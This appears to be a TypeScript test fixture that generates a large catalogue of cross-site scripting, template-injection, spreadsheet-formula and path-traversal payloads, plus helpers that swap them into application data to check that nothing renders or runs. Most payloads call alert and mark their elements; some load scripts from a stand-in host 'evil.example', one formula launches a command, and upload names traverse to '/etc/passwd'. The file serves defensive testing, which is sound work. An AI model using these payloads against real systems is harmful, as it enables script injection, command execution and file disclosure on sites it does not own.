// Texts that would run if anything took them for more than text (promise I4): every element they would make is marked, every
// script calls alert, every address is somebody else's.
const RUN = 'alert(1)';
const MADE = 'data-made=1';
const AWAY = '//evil.example';

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'embed src=x',
  'marquee',
  'form',
  'math',
  'div contenteditable tabindex=1',
  'dialog open',
];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
  'onbeforeinput',
];
const HANDLERS = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${MADE} ${event}=${RUN}>`));

const SCRIPTS = [
  `<script ${MADE}>${RUN}</script>`,
  `<ScRiPt ${MADE}>${RUN}</sCrIpT>`,
  `<script ${MADE} src=${AWAY}/x.js></script>`,
  `<script/x ${MADE}>${RUN}//`,
  `<scr<script>ipt ${MADE}>${RUN}</scr</script>ipt>`,
  `<<script ${MADE}>${RUN}//<</script>`,
  `<script ${MADE} type=module>import '${AWAY}/x.js'</script>`,
  `<svg ${MADE}><script>${RUN}</script></svg>`,
  `<svg ${MADE}><script href=${AWAY}/x.js /></svg>`,
  `<noscript><p title="</noscript><img ${MADE} src=x onerror=${RUN}>">`,
  `<template ${MADE}><script>${RUN}</script></template>`,
  `<xml ${MADE}><![CDATA[<script>${RUN}</script>]]></xml>`,
];
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  ']]>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '\\"',
  '&quot;>',
  '\u0000">',
].flatMap((out) => [
  `${out}<img ${MADE} src=x onerror=${RUN}>`,
  `${out} onmouseover=${RUN} ${MADE} x=${out}`,
]);
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  'javascript&colon;',
  '\u0001javascript:',
].flatMap((scheme) => [
  `${scheme}${RUN}`,
  `<a ${MADE} href="${scheme}${RUN}">点我</a>`,
  `<iframe ${MADE} src="${scheme}${RUN}"></iframe>`,
  `<form ${MADE} action="${scheme}${RUN}"><button>交</button></form>`,
  `<svg ${MADE}><a xlink:href="${scheme}${RUN}"><text y=20>点</text></a></svg>`,
]);
const FETCHES = [
  `<img ${MADE} src=${AWAY}/p.png>`,
  `<link ${MADE} rel=stylesheet href=${AWAY}/x.css>`,
  `<style ${MADE}>@import '${AWAY}/x.css'</style>`,
  `<div ${MADE} style="background:url(${AWAY}/p.png)">`,
  `<base ${MADE} href=${AWAY}/>`,
  `<meta ${MADE} http-equiv=refresh content="0;url=${AWAY}/">`,
  `<video ${MADE} poster=${AWAY}/p.png>`,
  `<svg ${MADE}><image href=${AWAY}/p.png /></svg>`,
  `<svg ${MADE}><use href=${AWAY}/x.svg#a /></svg>`,
  `<svg ${MADE}><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<svg ${MADE}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg ${MADE}><set attributeName=href to=javascript:${RUN}>`,
  `<input ${MADE} type=image src=${AWAY}/p.png>`,
  `<math ${MADE}><mi xlink:href="javascript:${RUN}">x</mi></math>`,
];
const TEMPLATES = ['{{', '${', '<%=', '#{', '[[', '{%', '@{', '{{{', '*{', '$' + '{{'].flatMap((open) => {
  const close =
    {
      '{{': '}}',
      '${': '}',
      '<%=': '%>',
      '#{': '}',
      '[[': ']]',
      '{%': '%}',
      '@{': '}',
      '{{{': '}}}',
      '*{': '}',
    }[open] ?? '}}';
  return [`${open}${RUN}${close}`, `${open}constructor.constructor('${RUN}')()${close}`];
});
const LETTERS = ['\u202e', '\u2066', '\u200b', '\ufeff', '\u2028', '\u0085', '\u00ad', '\u0301'].flatMap(
  (odd) => [`${odd}<img ${MADE} src=x onerror=${RUN}>`, `<${odd}script ${MADE}>${RUN}</script>`],
);
const WIDE = [
  `＜script＞${RUN}＜/script＞`,
  `‹img src=x onerror=${RUN}›`,
  `\\u003cscript\\u003e${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `+ADw-script+AD4-${RUN}`,
];
const CELLS = ['=', '+', '-', '@', '\t=', '＝', '＠'].flatMap((sign) => [
  `${sign}cmd|'/c calc'!A0`,
  `${sign}HYPERLINK("http:${AWAY}","点我")`,
]);
const FILES = ['.png', '.svg', '.html', '.pdf', '.xlsx'].flatMap((ending) => [
  `"><img ${MADE} src=x onerror=${RUN}>${ending}`,
  `../../<b ${MADE}>${ending}`,
  `\u202egnp${ending}`,
]);
const PLAIN_MARKUP = [
  `<b ${MADE}>粗</b>`,
  `<h1 ${MADE}>题</h1>`,
  `<table ${MADE}>`,
  `[点我](javascript:${RUN})`,
  `![图](${AWAY}/p.png)`,
  `<!--<img ${MADE} src=x onerror=${RUN}>-->`,
  `<?xml version="1.0"?><x ${MADE}/>`,
  `<plaintext ${MADE}>`,
];

/** All of them, the most likely to run first. NUL is no text a request may carry. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...BREAKS,
  ...FETCHES,
  ...ADDRESSES,
  ...LETTERS,
  ...TEMPLATES,
  ...WIDE,
  ...CELLS,
  ...FILES,
  ...PLAIN_MARKUP,
  ...HANDLERS,
].map((text) => text.replaceAll('\u0000', '\ufffd'));

/** Names of files to upload: no slash, for what stands before one is no part of a name, and what no system lets stand at all. */
export const FILE_NAMES: readonly string[] = [
  ...FILES.filter((name) => !name.includes('/')),
  ...[...SCRIPTS, ...BREAKS, ...TEMPLATES, ...LETTERS, ...CELLS]
    .filter((name) => !/[\\/]/.test(name))
    .map((name) => `${name}.pdf`),
  '../../../etc/passwd',
  '..\\..\\web.config',
  'a\u0000.html',
  '\u202efdp.exe',
  'CON.pdf',
];

/** As many as fit into a text of that length, beginning with another one each time; after the last comes the first. */
export function openBundles(): { readonly next: (most: number) => string; readonly taken: () => number } {
  let at = 0;
  return {
    next: (most) => {
      let bundle = '';
      for (let tried = 0; tried < PAYLOADS.length; tried += 1) {
        const one = PAYLOADS[at % PAYLOADS.length] ?? '';
        if (bundle.length + one.length + 1 > most) break;
        bundle += `${one} `;
        at += 1;
      }
      return bundle;
    },
    taken: () => at,
  };
}

/** Every text that people read, whatever is no id, amount, day or word of the program, made hostile; `told`: in which field. */
export function hostile(
  value: unknown,
  text: () => string,
  told: (field: string) => void = () => {},
  field = '',
): unknown {
  if (typeof value === 'string') {
    if (field.endsWith('Id') || !/[^\u0020-\u007e]/.test(value)) return value;
    told(field);
    return text();
  }
  if (Array.isArray(value)) return value.map((one) => hostile(one, text, told, field));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, hostile(one, text, told, key)]));
}
